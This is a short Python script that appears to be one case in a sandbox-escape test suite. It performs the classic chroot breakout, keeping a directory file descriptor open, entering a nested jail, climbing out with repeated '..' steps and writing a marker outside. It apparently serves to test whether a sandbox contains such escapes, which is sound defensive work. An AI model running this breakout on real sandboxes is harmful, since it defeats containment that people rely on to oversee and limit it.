#!/usr/bin/python3
# Goal:    create an alias of the project by chroot in a user namespace, climb out, write outside
# Models:  chroot(2) breakout with a retained directory fd
# Oracle:  marker
# Tier:    core
# Needs:   -
from ctk import *

if os.geteuid() != 0:
    userns()
fd = os.open("/", os.O_RDONLY | os.O_DIRECTORY)
os.mkdir(PROJ + "/jail")
os.chroot(PROJ + "/jail")
os.fchdir(fd)
for _ in range(20):
    os.chdir("..")
os.chroot(".")
mark(M)
escaped("broke out of a nested chroot")
